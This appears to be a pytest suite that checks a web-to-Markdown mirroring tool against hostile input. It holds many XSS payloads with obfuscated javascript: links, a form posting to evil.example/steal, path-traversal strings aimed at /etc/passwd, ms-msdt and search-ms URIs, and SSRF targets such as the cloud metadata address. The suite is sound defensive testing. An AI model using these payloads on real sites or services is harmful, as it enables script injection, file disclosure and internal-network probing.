"""Hostile-input suite: pages, titles, URLs and addresses built to attack the mirror or its readers.

Every produced Markdown file is rendered with raw HTML allowed (as GitHub renders it, before its own
sanitiser) and walked: nothing active may be there. Nothing may be written outside the repo, and no
request may reach an address the policy refuses.
"""

from __future__ import annotations

import hashlib
import ipaddress
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest
from support.active import MD, links_and_images, markdown_problems
from support.rawsite import RawSite, Request, respond

from mirror.config import parse_config
from mirror.fsutil import safe_join
from mirror.manifest import Manifest
from mirror.publisher import Publisher, RunReport
from mirror.rewrite import rewrite_links

PNG_1x1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2213bc90000000049454e44ae426082"
)
PROSE = (
    "<p>The council approved the plan on Tuesday, residents were pleased, and the works start next "
    "spring, when the weather allows it and the contractors are ready to begin.</p>"
    "<p>A second paragraph with more words, so that the extractor is certain that this is the article "
    "and not a navigation block or a list of links to other stories on the site.</p>"
)
# Text a reader typed that looks like markup: it must reach the page as the same visible text.
TYPED = [
    "*bold*",
    "_it_",
    "[x](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!-- hidden -->",
    "# not a heading",
    "| a | b |",
]
ACTIVE = """
<script>alert('script')</script><script src="https://evil.example/x.js"></script>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<object data="https://evil.example/x.swf"><param name="a" value="b"></object>
<applet code="X.class"></applet>
<form action="https://evil.example/steal"><input name="q"><button formaction="javascript:alert(1)">Go</button>
<textarea><script>alert(1)</script></textarea><select><option>a</option></select></form>
<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">math</maction></math>
<noscript><img src="x" onerror="alert(1)"></noscript><template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<p onclick="alert(1)" style="background:url(javascript:alert(1))" onmouseover="alert(1)">Handlers on a paragraph.</p>
<p>
<a href="javascript:alert(1)">plain</a>
<a href="JaVaScRiPt:alert(1)">case</a>
<a href="jav&#x09;ascript:alert(1)">tab entity</a>
<a href="jav&#x0A;ascript:alert(1)">newline entity</a>
<a href="&#106;avascript:alert(1)">decimal entity</a>
<a href="&#x6A;&#x61;vascript:alert(1)">hex entities</a>
<a href="javascript&colon;alert(1)">html5 colon</a>
<a href="java&Tab;script:alert(1)">html5 tab</a>
<a href="  &#x01;&#x1f; javascript:alert(1)">leading controls</a>
<a href="\x01javascript:alert(1)">raw control</a>
<a href="vbscript:msgbox(1)">vbscript</a>
<a href="VBScript:msgbox(1)">VBScript</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<a href=" DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">DATA</a>
<a href="https://ok.example/" onmouseover="alert(1)" target="_blank">fine link with a handler</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="data image">
<img src="javascript:alert(1)" alt="js image"><img src="/img/ok.png" onerror="alert(1)" alt="ok image">
<img src="/img/ok.png" srcset="javascript:alert(1) 1x, data:image/png,xx 2x" alt="srcset">
<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>
<a href="javascript:alert(1)"><img src="/img/ok.png" alt="linked image"></a>
</p>
<details open ontoggle="alert(1)"><summary onclick="alert(1)">Summary</summary>Details text.</details>
<table><tr><td colspan="2" onclick="alert(1)" style="x"><a href="javascript:alert(1)">cell link</a>
<script>alert(1)</script><b onmouseover="alert(1)">bold cell</b>
<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)" title="&quot; onclick=&quot;alert(1)">quoted</a></td></tr>
<tr><td>&lt;script&gt;alert(1)&lt;/script&gt;</td><td><pre>&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre></td></tr></table>
<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]>
<p>Last words of the payload.</p><embed src="https://evil.example/x.swf">
"""
# Text of the payload that must survive cleaning: proof the payload went through the whole pipeline.
SURVIVORS = ["Handlers on a paragraph.", "fine link with a handler", "tab entity", "Summary", "Details text.",
             "bold cell", "Last words of the payload."]
TITLE = "Evil](javascript:alert(1)) `tick` <!-- c --> <script>alert(1)</script> [link](http://x.example/)"


def hostile_page() -> str:
    typed = "".join(f"<p>{_escape(t)}</p>" for t in TYPED)
    title = _escape(TITLE)
    return (
        '<!doctype html><html><head><meta charset="utf-8">'
        f'<title>{title}</title><meta property="og:title" content="{title}&#10;# Injected heading">'
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'
        '<link rel="canonical" href="https://ok.example/c?a=1&amp;b=&lt;script&gt;alert(1)&lt;/script&gt;)](javascript:alert(1)) *x*">'
        '<meta name="author" content="&lt;img src=x onerror=alert(1)&gt; ](javascript:alert(1))">'
        f'</head><body onload="alert(1)"><article><h1>{title}</h1>{PROSE}{typed}{ACTIVE}{PROSE}</article>'
        "</body></html>"
    )


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def image(conn: socket.socket, req: Request) -> None:
    respond(conn, 200, PNG_1x1 + req.path.encode(), "image/png")


def good(title: str):  # type: ignore[no-untyped-def]
    def handler(conn: socket.socket, req: Request) -> None:
        respond(conn, 200, f"<html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
                           f"{PROSE}</article></body></html>")
    return handler


@pytest.fixture
def site() -> Iterator[RawSite]:
    with RawSite() as s:
        s.route("/img/ok.png", image)
        yield s


def make_config(tmp_path: Path, sources: list[dict], allow: tuple[str, ...] = ("127.0.0.1",)):  # type: ignore[no-untyped-def]
    data = {
        "publisher": {"repo": str(tmp_path / "repo"), "page_url": "github:o/r",
                      "author": "Bot <bot@example.org>", "language": "en"},
        "fetch": {"allow_hosts": list(allow), "timeout": 1, "retries": 0},
        "source": sources,
    }
    return parse_config(data, tmp_path / "mirror.toml")


def snapshot(folder: Path, skip: Path) -> dict[str, str]:
    """Every file under `folder` but `skip`, with a hash of its content and its mtime."""
    out = {}
    for path in sorted(folder.rglob("*")):
        if path == skip or skip in path.parents or not path.is_file():
            continue
        out[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() + f"@{path.stat().st_mtime_ns}"
    return out


def publish(tmp_path: Path, config) -> RunReport:  # type: ignore[no-untyped-def]
    """Publish, and check that nothing outside the repo was touched."""
    (tmp_path / "outside").mkdir(exist_ok=True)
    (tmp_path / "outside" / "passwd.md").write_text("sentinel\n")
    before = snapshot(tmp_path, tmp_path / "repo")
    started = time.monotonic()
    report = Publisher(config).publish()
    assert time.monotonic() - started < 20
    assert snapshot(tmp_path, tmp_path / "repo") == before
    assert not list(tmp_path.glob("*.md")) and sorted(p.name for p in tmp_path.iterdir()) == ["outside", "repo"]
    return report


def markdown_files(repo: Path) -> list[Path]:
    return sorted(p for p in repo.rglob("*.md") if ".git" not in p.relative_to(repo).parts)


def assert_nothing_active(repo: Path) -> int:
    files = markdown_files(repo)
    for md_file in files:
        problems = markdown_problems(md_file.read_text("utf-8"))
        assert problems == [], f"{md_file.relative_to(repo)}: {problems}"
    return len(files)


def assert_portable_tree(repo: Path) -> None:
    """Every file of the repo (but .git) has a name safe_join accepts: portable, inside, no device names."""
    status = subprocess.run(["git", "-C", str(repo), "status", "--porcelain", "--untracked-files=all"],
                            capture_output=True, text=True, check=True).stdout
    assert status == ""
    for path in repo.rglob("*"):
        rel = path.relative_to(repo).as_posix()
        if rel == ".git" or rel.startswith(".git/"):
            continue
        assert safe_join(repo, rel) == path
        assert path.resolve().is_relative_to(repo.resolve())
        assert not path.is_symlink()


# ----------------------------------------------------------------------------- active content


@pytest.mark.parametrize("markdown", [
    "<script>alert(1)</script>", "x <img src=x onerror=alert(1)>", "<div>\n<iframe src=x></iframe>\n</div>",
    "[a](javascript:alert(1))", "[a](JAVASCRIPT:alert(1))", '<a href="jav&#x09;ascript:x">a</a>',
    '<a href="&#106;avascript:x">a</a>', "![i](data:image/png;base64,AAAA)", "[v](vbscript:x)",
    "<dl>\n\\<script>x()\\</script>\n</dl>", '<td onclick="x">', "<style>p{}</style>", "<form><input></form>",
    "<svg><circle/></svg>", '<p style="x">a</p>', '<img srcset="x.png 1x, javascript:alert(1) 2x">',
])
def test_the_check_sees_active_content(markdown: str) -> None:
    assert markdown_problems(markdown) != []


@pytest.mark.parametrize("markdown", [
    "\\<script>alert(1)\\</script>", "`<script>`", "```\n<script>alert(1)</script>\n```", "&lt;script&gt;",
    "[a](https://ok.example/)", "![i](../../assets/ab/x.png)", "<table>\n<tr><td colspan=\"2\">x</td></tr>\n</table>",
    "\\[x\\](javascript:alert(1))", "<details open>\n<summary>s</summary>\n\nx\n\n</details>",
])
def test_the_check_lets_text_and_safe_markup_pass(markdown: str) -> None:
    assert markdown_problems(markdown) == []



def test_hostile_article_reaches_the_page_with_nothing_active(tmp_path: Path, site: RawSite) -> None:
    for policy in ("keep", "mirror", "text"):
        site.route(f"/evil/{policy}.html", lambda conn, req: respond(conn, 200, hostile_page()))
    sources = [{"name": f"evil-{policy}", "channel": f"evil{policy}", "channel_name": "Evil " + TITLE,
                "kind": "urls", "urls": [site.url(f"/evil/{policy}.html")], "links": policy,
                "images": "localize" if policy != "keep" else "keep"}
               for policy in ("keep", "mirror", "text")]
    report = publish(tmp_path, make_config(tmp_path, sources))
    assert report.failed == [] and len(report.published) == 3
    repo = tmp_path / "repo"
    assert assert_nothing_active(repo) >= 3 + 3 + 1  # pages, indexes, README
    assert_portable_tree(repo)
    for rec in Manifest.load(repo):
        text = (repo / rec.path).read_text("utf-8")
        html = MD.render(text)
        root = lxml.html.fragment_fromstring(html, create_parent="div")
        visible = root.text_content()
        # What the reader typed is shown as typed: not bold, not a link, not an element.
        for typed in TYPED + SURVIVORS:
            assert typed in visible, (typed, rec.path)
        # The title stays one line of text in the page's heading: nothing injected around it.
        assert [el.tag for el in root.iter("h1", "h2")] == []
        heading = root.find("h3")
        assert heading is not None and "Evil](javascript:alert(1))" in heading.text_content()
        assert "<script>alert(1)</script>" in heading.text_content()
        assert "Injected heading" not in "".join(el.text_content() for el in root.iter("h1", "h2", "h4"))
        for url in links_and_images(text):
            assert re.match(r"(https?://|\.\./|[\w.-]+\.png$|#)", url), url


def test_hostile_title_in_indexes_and_readme_stays_text(tmp_path: Path, site: RawSite) -> None:
    site.route("/evil/t.html", lambda conn, req: respond(conn, 200, hostile_page()))
    feed = ('<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item>'
            f"<title>{_escape(TITLE)}&#10;&lt;/a&gt;&lt;script&gt;x()&lt;/script&gt;</title>"
            f"<link>{site.url('/evil/t.html')}</link></item></channel></rss>")
    site.route("/feed.xml", lambda conn, req: respond(conn, 200, feed, "application/rss+xml"))
    sources = [{"name": "evil", "channel": "evil", "channel_name": "Evil <script>alert(1)</script> ](x)",
                "kind": "feed", "url": site.url("/feed.xml")}]
    report = publish(tmp_path, make_config(tmp_path, sources))
    assert report.failed == [] and len(report.published) == 1
    repo = tmp_path / "repo"
    assert_nothing_active(repo)
    for name in ("README.md", "indexes/evil.md"):
        root = lxml.html.fragment_fromstring(MD.render((repo / name).read_text("utf-8")), create_parent="div")
        titles = [a.text_content() for a in root.iter("a") if "pages/" in (a.get("href") or "")]
        assert titles and all("<script>alert(1)</script>" in t for t in titles), titles


def story(title: str, middle: str) -> str:
    return (f"<html><head><title>{title}</title></head><body><article><h1>{title}</h1>"
            f"{PROSE}{middle}{PROSE}</article></body></html>")


@pytest.mark.parametrize("void", ["<wbr>", "<embed src='https://evil.example/x.swf'>",
                                  "<source src='https://evil.example/x.mp4'>", "<track src='x.vtt'>"])
def test_markup_cannot_swallow_the_text_after_it(void: str) -> None:
    from mirror import extract_article, html_to_markdown

    middle = f"<p>Before the element{void} AFTER the element, in the same paragraph.</p><p>NEXT paragraph.</p>"
    for markdown in (html_to_markdown(f"<div>{middle}</div>"),
                     extract_article(story("Void", middle), url="https://site.example/a.html").markdown):
        assert "AFTER the element" in markdown and "NEXT paragraph" in markdown, markdown
        assert markdown_problems(markdown) == []


@pytest.mark.parametrize("base", ["javascript:alert(1)//", "data:text/html,x", "file:///etc/", "http://[bad"])
def test_hostile_base_href_falls_back_to_the_page_url(base: str) -> None:
    from mirror import extract_article

    middle = '<p><a href="/other.html">another story</a> and a picture <img src="/img/ok.png" alt="i"></p>'
    html = story("Base", middle).replace("<head>", f'<head><base href="{_escape(base)}">')
    article = extract_article(html, url="https://site.example/news/a.html")
    assert article.links == ["https://site.example/other.html"]
    assert article.images == ["https://site.example/img/ok.png"]
    assert markdown_problems(article.markdown) == []


@pytest.mark.parametrize("href", ["a&#x04;b.html", "/p&#x1f;q.html", "x&#1;", "&#xFFFE;"])
def test_control_character_references_in_urls_do_not_lose_the_article(href: str) -> None:
    from mirror import extract_article

    middle = f'<p>See <a href="{href}">this link</a> and <img src="{href}" alt="pic"> here.</p>'
    article = extract_article(story("Controls", middle), url="https://site.example/news/a.html")
    assert "The council approved" in article.markdown and "this link" in article.markdown
    assert markdown_problems(article.markdown) == []
    # A control character cannot be in a CommonMark link destination: it must be percent-encoded.
    assert not any(ord(c) < 0x20 and c not in "\n" for c in article.markdown)


@pytest.mark.parametrize("element", [
    '<video src="ms-msdt:/id PCWDiagnostic /skip force"></video>',
    '<a href="ms-msdt:/id PCWDiagnostic">link</a>',
    '<a href="search-ms:query=x&amp;crumb=location:\\\\evil.example\\share">link</a>',
    '<iframe src="livescript:alert(1)"></iframe>',
    '<img src="jar:https://evil.example/x.jar!/a.png" alt="jar">',
    '<a href="intent://x#Intent;scheme=http;end">link</a>',
])
def test_only_web_and_mail_schemes_reach_the_page(element: str) -> None:
    from mirror import extract_article, html_to_markdown

    def rewrite(root) -> None:  # type: ignore[no-untyped-def]
        rewrite_links(root, "keep", page_url="https://site.example/news/a.html")

    middle = f"<p>Words before {element} words after.</p>"
    outputs = [html_to_markdown(f"<div>{middle}</div>", "https://site.example/news/a.html"),
               extract_article(story("Schemes", middle), url="https://site.example/news/a.html").markdown,
               extract_article(story("Schemes", middle), url="https://site.example/news/a.html",
                               rewrite=rewrite).markdown]
    for markdown in outputs:
        for url in links_and_images(markdown):
            assert re.match(r"(https?:|mailto:|tel:|#|/|\.)", url, re.IGNORECASE), (url, markdown)


@pytest.mark.parametrize("middle", [
    '<p>See <a href="javascript:alert(1)" title="a&#x04;b">this link</a> here.</p>',
    '<p>See <img alt="a&#x1f;b" src="/img/ok.png" onerror="alert(1)"> this link here.</p>',
    '<p>See <a href="/x.html" title="&#xFFFE;" onclick="alert(1)">this link</a> here.</p>',
    # In text, once an element before it is dropped (its tail joins the parent's text).
    '<p>See this link<img src="">&#x0e;after an empty image.</p>',
    '<p>See this link<span class="ad">ad</span>&#x04;after an ad.</p>',
])
def test_control_characters_in_kept_attributes_do_not_lose_the_article(middle: str) -> None:
    from mirror import extract_article

    article = extract_article(story("Controls", middle), url="https://site.example/news/a.html")
    assert "The council approved" in article.markdown and "this link" in article.markdown
    assert markdown_problems(article.markdown) == []


@pytest.mark.parametrize("middle", ["<p {cript>odd attribute</p>", "<b {x}y=1 onclick=alert(1)>odd attribute</b>",
                                    "<img {src=x src=/img/ok.png alt='odd attribute'>"])
def test_odd_attribute_names_do_not_lose_the_article(middle: str) -> None:
    from mirror import extract_article

    article = extract_article(story("Odd", middle), url="https://site.example/news/a.html")
    assert "The council approved" in article.markdown and "odd attribute" in article.markdown
    assert markdown_problems(article.markdown) == []


@pytest.mark.parametrize("html", [
    "<dl><div>&lt;script&gt;alert(1)&lt;/script&gt;</div></dl>",
    "<dl><span>&lt;iframe src=https://evil.example/&gt;</span></dl>",
    "<dl><div><a href='https://ok.example/'>&lt;script&gt;alert(1)&lt;/script&gt;</a></div></dl>",
    "<dl><div>&lt;b onclick=alert(1)&gt;bold&lt;/b&gt;</div></dl>",
])
def test_escaped_markup_inside_raw_html_blocks_stays_text(html: str) -> None:
    from mirror import extract_article, html_to_markdown

    outputs = [html_to_markdown(html),
               extract_article(story("Definitions", html), url="https://site.example/news/a.html").markdown]
    for markdown in outputs:
        assert markdown_problems(markdown) == [], markdown
    # The converter keeps the text as text (the extractor may judge a lone link list to be clutter).
    visible = lxml.html.fragment_fromstring(MD.render(outputs[0]) or "<p></p>", create_parent="div").text_content()
    assert re.search(r"<(script|iframe|b)\b", visible), outputs[0]


# ----------------------------------------------------------------------------- paths


HOSTILE_PATHS = [
    "/news/../../../../outside.html",
    "/%2e%2e/%2e%2e/%2e%2e/outside2.html",
    "/news/%2F..%2F..%2Fescape.html",
    "/news/..%5c..%5c..%5cwindows.html",
    "/CON.html",
    "/aux.html",
    "/news/nul.txt.html",
    "/news/LPT1",
    "/news/a%00b.html",
    "/news/" + "a" * 300 + ".html",
    "/news/" + "%E4%B8%AD" * 120 + ".html",
    "/.git/config",
    "/news/.git",
    "/news/.hidden.html",
    "/./etc/passwd",
    "/C:/Windows/win.ini",
    "/news/%E2%80%AEcod.exe.html",
    "/news/view.php?id=../../../etc/passwd",
    "/news/view.php?id=%00%2F..%2F",
    "/news/%20trailing%20.html",
    "/news/trailing-dot.",
    "/news/%3Cscript%3E.html",
    "/news/a%7Cb%3Ac%2Ad%3Fe%22f.html",
]


def test_hostile_urls_give_portable_pages_inside_the_repo(tmp_path: Path, site: RawSite) -> None:
    site.fallback = good("A story under a hostile URL")
    items = "".join(f"<item><title>Story {n}</title><link>{_escape(site.url(p))}</link></item>"
                    for n, p in enumerate(HOSTILE_PATHS))
    # Relative and non-web links too: resolved against the feed, or dropped.
    items += ("<item><title>rel</title><link>../../../../rel-outside.html</link></item>"
              "<item><title>file</title><link>file:///etc/passwd</link></item>"
              "<item><title>abs</title><link>/etc/shadow</link></item>")
    feed = f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'
    site.route("/feeds/news.xml", lambda conn, req: respond(conn, 200, feed, "application/rss+xml"))
    sources = [{"name": "news", "channel": "news", "channel_name": "News", "kind": "feed",
                "url": site.url("/feeds/news.xml"), "limit": 100}]
    report = publish(tmp_path, make_config(tmp_path, sources))
    assert report.failed == []
    repo = tmp_path / "repo"
    manifest = Manifest.load(repo)
    # Several hostile spellings may name the same page; each distinct URL got its own.
    assert len(report.published) == len(manifest) >= 20
    assert len({r.path for r in manifest}) == len(manifest)
    for rec in manifest:
        assert re.fullmatch(r"pages/news/\d{4}-\d{2}/[^/]+\.md", rec.path), rec.path
        assert (repo / rec.path).is_file() and (repo / (rec.path + ".png")).is_file()
        assert len(Path(rec.path).name.encode()) <= 255 - len(".png")
    assert not any("passwd" in r.url and r.url.startswith("file:") for r in manifest)
    assert_portable_tree(repo)
    assert_nothing_active(repo)


# ----------------------------------------------------------------------------- address policy


PRIVATE_HOSTS = ["10.0.0.1", "192.168.1.1", "169.254.169.254", "172.16.0.1", "0.0.0.0",
                 "[::ffff:10.0.0.1]", "[fe80::1]", "[fd00::1]", "0xa000001", "167772161"]


@pytest.fixture
def connects(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, int]]:
    """Every (address, port) a socket connects to in this test; only loopback ones really go out."""
    seen: list[tuple[str, int]] = []
    real = socket.socket.connect

    def spy(sock: socket.socket, address) -> None:  # type: ignore[no-untyped-def]
        if not isinstance(address, tuple):  # a Unix socket: not the network
            return real(sock, address)
        host = str(address[0]).split("%", 1)[0]
        seen.append((host, int(address[1])))
        try:
            ip = ipaddress.ip_address(host)
        except ValueError:
            ip = None
        if ip is not None and not ip.is_loopback:
            raise ConnectionRefusedError(f"test: refused to really connect to {host}")
        return real(sock, address)

    monkeypatch.setattr(socket.socket, "connect", spy)
    return seen


def refused_failures(report: RunReport) -> dict[str, str]:
    return {url: reason for url, reason in report.failed
            if re.search(r"refused|only http and https URLs are fetched", reason)}


def test_private_and_link_local_addresses_are_refused_before_connecting(
    tmp_path: Path, site: RawSite, connects: list[tuple[str, int]]
) -> None:
    private = [f"http://{h}/news/{n}.html" for n, h in enumerate(PRIVATE_HOSTS)]
    images = "".join(f'<img src="http://{h}/img/{n}.png" alt="i{n}">' for n, h in enumerate(PRIVATE_HOSTS))
    images += '<img src="file:///etc/passwd" alt="f"><img src="http://169.254.169.254/latest/meta-data/" alt="m">'
    site.route("/news/ok.html", lambda conn, req: respond(
        conn, 200, f"<html><head><title>Fine</title></head><body><article><h1>Fine</h1>{PROSE}"
                   f"<p>{images}</p>{PROSE}</article></body></html>"))
    # Redirects from the allowed site into the forbidden places are checked hop by hop.
    for name, target in [("to-metadata", "http://169.254.169.254/latest/meta-data/"),
                         ("to-intranet", "http://10.0.0.1/admin"), ("to-file", "file:///etc/passwd")]:
        site.route(f"/news/{name}.html", lambda conn, req, target=target: respond(
            conn, 302, "", "text/plain", {"Location": target}))
        private.append(site.url(f"/news/{name}.html"))
    items = "".join(f"<item><title>p</title><link>{u}</link></item>" for u in private)
    items += ("<item><title>f</title><link>file:///etc/passwd</link></item>"
              f"<item><title>ok</title><link>{site.url('/news/ok.html')}</link></item>")
    feed = f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'
    site.route("/feed.xml", lambda conn, req: respond(conn, 200, feed, "application/rss+xml"))
    sources = [
        {"name": "wire", "channel": "news", "channel_name": "News", "kind": "feed", "url": site.url("/feed.xml"),
         "images": "localize"},
        {"name": "intranet", "channel": "news", "channel_name": "News", "kind": "feed",
         "url": "http://10.0.0.1/feed.xml"},
        {"name": "metadata", "channel": "news", "channel_name": "News", "kind": "listing",
         "url": "http://169.254.169.254/latest/", "item": "a"},
    ]
    report = publish(tmp_path, make_config(tmp_path, sources))
    refused = refused_failures(report)
    assert sorted(refused) == sorted(private + ["source intranet", "source metadata"]), report.failed
    assert len(report.failed) == len(refused)
    image_refusals = [w for w in report.warnings if w.startswith("image ") and "refused" in w]
    assert len(image_refusals) == len(PRIVATE_HOSTS) + 1  # the meta-data URL too; file: is never fetched
    assert [h for h, _ in connects if not ipaddress.ip_address(h).is_loopback] == []
    assert [p.url for p in report.published] == [site.url("/news/ok.html")]
    assert_nothing_active(tmp_path / "repo")
    assert_portable_tree(tmp_path / "repo")


def test_loopback_is_refused_when_only_another_host_is_allowed(
    tmp_path: Path, site: RawSite, connects: list[tuple[str, int]]
) -> None:
    with RawSite() as forbidden:
        forbidden.fallback = good("Should never be read")
        port = forbidden.port
        loopbacks = [forbidden.url("/a.html"), f"http://127.1:{port}/b.html", f"http://2130706433:{port}/c.html",
                     f"http://0x7f000001:{port}/d.html", f"http://[::ffff:127.0.0.1]:{port}/e.html",
                     f"http://[::1]:{port}/f.html", f"http://0177.0.0.1:{port}/g.html"]
        # The allowed site is reached as "localhost"; it redirects into the forbidden one and embeds it.
        site.route("/news/redirect.html", lambda conn, req: respond(
            conn, 302, "", "text/plain", {"Location": forbidden.url("/redirected.html")}))
        site.route("/news/ok.html", lambda conn, req: respond(
            conn, 200, "<html><head><title>Fine</title></head><body><article><h1>Fine</h1>"
                       f'{PROSE}<p><img src="{forbidden.url("/img.png")}" alt="x"></p>{PROSE}</article></body></html>'))
        allowed = [site.url("/news/redirect.html", "localhost"), site.url("/news/ok.html", "localhost")]
        items = "".join(f"<item><title>t</title><link>{u}</link></item>" for u in loopbacks + allowed)
        feed = f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>{items}</channel></rss>'
        site.route("/feed.xml", lambda conn, req: respond(conn, 200, feed, "application/rss+xml"))
        sources = [
            {"name": "wire", "channel": "news", "channel_name": "News", "kind": "feed",
             "url": site.url("/feed.xml", "localhost"), "images": "localize"},
            {"name": "sneaky", "channel": "news", "channel_name": "News", "kind": "feed",
             "url": forbidden.url("/feed.xml")},
        ]
        report = publish(tmp_path, make_config(tmp_path, sources, allow=("localhost",)))
        assert forbidden.requests == []
    refused = refused_failures(report)
    assert sorted(refused) == sorted(loopbacks + [allowed[0], "source sneaky"]), report.failed
    assert len(report.failed) == len(refused)
    assert any(w.startswith(f"image {forbidden.url('/img.png')}") and "refused" in w for w in report.warnings)
    assert [p.url for p in report.published] == [allowed[1]]
    # Only the allowed site's port was ever connected to.
    assert connects and {port for _, port in connects} == {site.port}
    assert_nothing_active(tmp_path / "repo")
